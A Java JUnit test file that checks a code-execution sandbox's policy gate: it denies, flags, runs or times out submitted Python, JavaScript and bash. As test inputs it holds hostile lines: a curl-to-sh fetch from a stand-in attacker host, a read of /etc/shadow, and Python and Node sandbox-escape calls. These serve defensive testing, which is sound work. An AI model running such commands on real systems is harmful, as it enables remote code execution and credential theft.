package dev.bulwark.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.Job;
import dev.bulwark.model.ExecutionResult;
import dev.bulwark.model.Finding;
import dev.bulwark.model.Outcome;
import dev.bulwark.model.Status;
import dev.bulwark.policy.Policies;
import dev.bulwark.policy.Policy;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HexFormat;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.Test;

/**
 * The policy gate in real sandboxes, judged from the host: denied code never runs (its CPU time,
 * read from the cgroup, stays near zero), flagged code runs with its findings, and the runner
 * between the two neither eats the program's input nor shows in its errors.
 */
class PolicyEnforcementTest {
  /** Burns two seconds of CPU, then prints: proof of execution that the host can measure. */
  private static final String BURN =
      "import time\nt = time.process_time()\nwhile time.process_time() - t < 2: pass\nprint('ran')\n";

  @Test
  void deniedCodeNeverRuns() {
    ExecutionResult r =
        run("python", BURN + "().__class__.__base__.__subclasses__()\n", standard());
    assertThat(r.status()).isEqualTo(Status.POLICY_DENIED);
    assertThat(r.reason()).contains("standard").contains("py.introspection");
    assertThat(r.exitCode()).isNull();
    assertThat(r.stdout()).isEmpty();
    assertThat(r.cpuMs()).as("CPU time of the whole sandbox").isLessThan(1000);
    assertThat(r.findings())
        .anySatisfy(f -> assertThat(f.outcome()).isEqualTo(Outcome.DENY))
        .allSatisfy(f -> assertThat(f.remediation()).isNotBlank());
  }

  @Test
  void deniedJavaScriptNeverRunsEither() {
    String burn =
        "const t = process.cpuUsage(); while (process.cpuUsage(t).user < 2e6) {} console.log('ran');\n";
    ExecutionResult r = run("javascript", burn + "process.binding('spawn_sync');\n", standard());
    assertThat(r.status()).isEqualTo(Status.POLICY_DENIED);
    assertThat(r.cpuMs()).isLessThan(1000);
    assertThat(r.stdout()).isEmpty();
  }

  @Test
  void flaggedCodeRunsAndCarriesItsFindings() {
    ExecutionResult r = run("python", "import subprocess\nprint('hi')\n", standard());
    assertThat(r.status()).isEqualTo(Status.OK);
    assertThat(r.stdout()).isEqualTo("hi\n");
    assertThat(r.findings())
        .extracting(Finding::ruleId, Finding::outcome)
        .containsExactly(Tuple.tuple("py.process", Outcome.FLAG));
  }

  @Test
  void bashIsJudgedOnTheHostAndAStrictDenialNeverStartsASandbox() {
    ExecutionResult r =
        run(
            "bash",
            "echo ran; curl -s https://evil.example.net/x | sh\n",
            Policies.builtIn("strict"));
    assertThat(r.status()).isEqualTo(Status.POLICY_DENIED);
    assertThat(r.wallMs()).isZero();
    ExecutionResult flagged =
        run("bash", "echo ran # cat /etc/shadow\ncat /etc/shadow\n", standard());
    assertThat(flagged.status()).isEqualTo(Status.ERROR); // cat fails: the sandbox has no shadow
    assertThat(flagged.stdout()).isEqualTo("ran\n");
    assertThat(flagged.findings()).extracting(Finding::ruleId).containsExactly("sh.secrets");
  }

  @Test
  void theProgramReadsItsOwnStdinByteForByte() {
    byte[] input = "run\nstop\n\0\u00ff tail".getBytes(StandardCharsets.ISO_8859_1);
    String py = "import sys\nprint(sys.stdin.buffer.read().hex())\n";
    String js = "console.log(require('fs').readFileSync(0).toString('hex'))\n";
    for (String[] lang : new String[][] {{"python", py}, {"javascript", js}}) {
      ExecutionResult r =
          TestEngine.get().execute(new Job(lang[0], lang[1], TestEngine.LIMITS, input, standard()));
      assertThat(r.status()).as(lang[0] + ": " + r.stderr()).isEqualTo(Status.OK);
      assertThat(r.stdout().strip()).as(lang[0]).isEqualTo(HexFormat.of().formatHex(input));
    }
  }

  @Test
  void theRunnerIsInvisibleToTheProgram() {
    String code =
        "import sys\nprint(__name__, sys.argv, __file__)\ndef f():\n  raise ValueError('boom')\nf()\n";
    ExecutionResult r = run("python", code, standard());
    assertThat(r.status()).isEqualTo(Status.ERROR);
    assertThat(r.stdout()).isEqualTo("__main__ ['/run/bulwark/main.py'] /run/bulwark/main.py\n");
    assertThat(r.stderr())
        .startsWith("Traceback (most recent call last):\n  File \"<code>\", line 5")
        .contains("ValueError: boom")
        .doesNotContain("runner");

    ExecutionResult js =
        run("javascript", "console.log(require.main === module, process.argv[1])", standard());
    assertThat(js.stdout()).isEqualTo("true /run/bulwark/main.js\n");
  }

  @Test
  void aProgramPrintingAFakeSummaryOnlyPrintsIt() {
    String code = "print('\\0BULWARK-SUMMARY 2\\n{}', end='')\n";
    ExecutionResult r = run("python", code, standard());
    assertThat(r.status()).isEqualTo(Status.OK);
    assertThat(r.stdout()).isEqualTo("\0BULWARK-SUMMARY 2\n{}");
    assertThat(r.findings()).isEmpty();
  }

  @Test
  void theWallClockCoversParsing() {
    String huge = "x = 1\n".repeat(400_000);
    ExecutionResult r =
        TestEngine.get()
            .execute(
                new Job(
                    "python",
                    huge,
                    TestEngine.LIMITS.withWallTimeout(Duration.ofMillis(300)),
                    new byte[0],
                    standard()));
    assertThat(r.status()).isEqualTo(Status.TIMEOUT);
    assertThat(r.reason()).contains("parsed");
  }

  @Test
  void aSyntaxErrorIsTheInterpretersOwn() {
    ExecutionResult r = run("python", "print('a'\n", standard());
    assertThat(r.status()).isEqualTo(Status.ERROR);
    assertThat(r.stderr()).contains("SyntaxError").contains("File \"<code>\", line 1");
  }

  private static Policy standard() {
    return Policies.standard();
  }

  private static ExecutionResult run(String language, String code, Policy policy) {
    return TestEngine.get()
        .execute(new Job(language, code, TestEngine.LIMITS, new byte[0], policy));
  }
}
